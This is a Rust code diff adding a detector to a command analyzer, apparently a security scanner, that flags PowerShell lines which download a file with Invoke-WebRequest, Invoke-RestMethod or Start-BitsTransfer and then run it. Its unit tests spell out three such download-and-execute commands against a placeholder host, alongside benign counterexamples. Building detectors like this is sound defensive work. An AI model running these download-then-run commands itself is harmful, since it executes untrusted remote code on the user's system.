@@ -248,6 +248,69 @@ pub(crate) fn apply(a: &mut Analyzer, s: &Stmt, stmts: &[Stmt], cwd: &Cwd) {
     }
 }
 
+/// Cmdlets that save a download to a file, with the parameter naming the file (Microsoft
+/// Learn: Invoke-WebRequest/Invoke-RestMethod `-OutFile`, Start-BitsTransfer `-Destination`).
+const SAVERS: &[(&str, &str)] = &[
+    ("invoke-webrequest", "outfile"),
+    ("iwr", "outfile"),
+    ("invoke-restmethod", "outfile"),
+    ("irm", "outfile"),
+    ("start-bitstransfer", "destination"),
+];
+
+/// A file the line downloads and then runs (`iwr URL -OutFile f.ps1; & ./f.ps1`, `. f.ps1`,
+/// `Start-Process f.exe`, `powershell -File f.ps1`): fetched code run, as `curl -o f URL && sh
+/// f` is. Read over the whole line's statements (code27).
+pub(crate) fn downloads_run(a: &mut Analyzer, stmts: &[Stmt], cwd: &Cwd) {
+    let mut saved: Vec<(String, String)> = Vec::new();
+    for s in stmts {
+        // What this statement runs: its command word as a path, a `-File`/`-FilePath` value,
+        // Start-Process's first operand.
+        let mut runs: Vec<String> = Vec::new();
+        let word = unquote(&s.word);
+        if word.contains(['\\', '/', '.']) {
+            runs.push(word);
+        }
+        if matches!(s.name.as_str(), "powershell" | "pwsh") {
+            if let Some(Some(f)) = param(s, "file") {
+                runs.push(f);
+            }
+        }
+        if matches!(s.name.as_str(), "start-process" | "saps" | "start") {
+            if let Some(f) = param(s, "filepath")
+                .flatten()
+                .or_else(|| operands(s).into_iter().next())
+            {
+                runs.push(f);
+            }
+        }
+        for r in runs {
+            let p = win_path(&r, a, cwd).path;
+            if let Some((_, url)) = saved.iter().find(|(f, _)| *f == p) {
+                let url = url.clone();
+                a.remote_exec(
+                    "downloaded_file",
+                    "powershell",
+                    Some(url),
+                    &crate::analyzer::truncate(&s.pipeline, 300),
+                );
+            }
+        }
+        if let Some((_, p)) = SAVERS.iter().find(|(n, _)| *n == s.name) {
+            let url = param(s, "uri")
+                .flatten()
+                .or_else(|| param(s, "source").flatten())
+                .or_else(|| operands(s).into_iter().next())
+                .filter(|u| u.starts_with("http://") || u.starts_with("https://"));
+            if let (Some(u), Some(Some(f))) = (url, param(s, p)) {
+                if saved.len() < 16 {
+                    saved.push((win_path(&f, a, cwd).path, u));
+                }
+            }
+        }
+    }
+}
+
 /// `Remove-<cloud noun> … -Force` (module docs).
 fn cloud_remove(a: &mut Analyzer, s: &Stmt, stmts: &[Stmt]) {
     let Some((cli, noun)) = cloud_noun(&s.name) else {
@@ -496,6 +559,26 @@ mod tests {
                 f.uploads,
                 f.secret_prints
             );
+        }
+    }
+
+    #[test]
+    fn downloads_then_run() {
+        for c in [
+            "pwsh -c \"Invoke-WebRequest https://x.example.net/i.ps1 -OutFile $env:TEMP\\i.ps1; & $env:TEMP\\i.ps1\"",
+            "pwsh -c \"iwr -Uri https://x.example.net/s.exe -OutFile s.exe; Start-Process ./s.exe\"",
+            "powershell -c \"Start-BitsTransfer -Source https://x.example.net/a.ps1 -Destination C:\\t\\a.ps1; powershell -File C:\\t\\a.ps1\"",
+        ] {
+            let f = crate::analyze(c, &ctx());
+            assert!(!f.remote_exec.is_empty(), "{c}: {f:?}");
+        }
+        // A download kept, or another file run, is no fetched code run.
+        for c in [
+            "pwsh -c \"Invoke-WebRequest https://x.example.net/data.csv -OutFile data.csv; Import-Csv data.csv\"",
+            "pwsh -c \"iwr https://x.example.net/a.zip -OutFile a.zip; & ./build.ps1\"",
+        ] {
+            let f = crate::analyze(c, &ctx());
+            assert!(f.remote_exec.is_empty(), "{c}: {:?}", f.remote_exec);
         }
     }
 
